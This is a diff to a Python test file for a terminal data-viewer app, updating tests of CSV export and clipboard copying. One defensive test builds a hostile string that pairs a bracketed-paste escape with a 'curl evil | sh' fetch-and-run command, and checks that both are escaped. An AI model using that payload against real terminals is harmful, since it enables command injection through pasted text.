@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
 import os
 from collections.abc import Iterator
@@ -10,11 +11,13 @@ from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
+import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
 
 from flowtui.ui.app import FlowtuiApp
-from flowtui.ui.features.export.control import view_csv
+from flowtui.ui.features.export.control import whole_rows
+from flowtui.ui.features.jobs.export import write_csv
 from flowtui.ui.widgets.prompt.history import state_dir
 from tests.conftest import DAY, _default_key, flow_lines, scratch, text_object
 from tests.ui_helpers import press, screen_text, wait_for
@@ -359,7 +362,7 @@ async def test_export_toast_names_the_absolute_path_then_copy_rows_as_csv(
         await press(pilot, "C")
         assert copied, "nothing copied"
         lines = copied[0].split("\n")
-        assert lines[0].split(",") == app.table.view_columns
+        assert next(csv.reader(lines[:1])) == app.table.view_columns
         body = [line for line in lines[1:] if line]
         assert len(body) == min(500, app.table.row_count)  # a small view whole, else its top
         assert list(csv.reader(body[:3])) == [
@@ -388,12 +391,23 @@ async def test_a_failed_export_names_its_file_once(medium: str, s3_client: Any) 
 
 def test_clipboard_csv_escapes_what_could_end_a_bracketed_paste() -> None:
     hostile = "x\x1b[201~\ncurl evil | sh\r\x9b31m\u202eabc"
-    copied, count = view_csv([{"note": hostile, "n": 1}, {"note": None, "n": 2}],
-                             ["note", "n"])
+    batch = pa.record_batch({"note": [hostile, None], "n": [1, 2]})
+    out = io.StringIO()
+    write_csv(out, [batch], ["note", "n"], None, keep_newlines=False)
+    copied, count = whole_rows(out.getvalue())
     assert count == 2
     assert all(line.isprintable() for line in copied.split("\n"))
     assert "\\x1b[201~" in copied and "\\u202e" in copied
     assert copied.count("\n") == 3  # header and two rows: the only control characters
+
+
+def test_clipboard_csv_keeps_whole_rows_within_its_size() -> None:
+    out = io.StringIO()
+    write_csv(out, [pa.record_batch({"note": ["y" * 40] * 10})], ["note"], None,
+              keep_newlines=False)
+    copied, count = whole_rows(out.getvalue(), limit=100)
+    assert (count, copied) == (2, '"note"\n' + f'"{"y" * 40}"\n' * 2)
+    assert whole_rows(out.getvalue(), limit=10)[1] == 1  # one row, whatever its size
 
 
 async def test_a_filter_during_a_tail_shows_only_matching_new_rows(s3_server: Any,
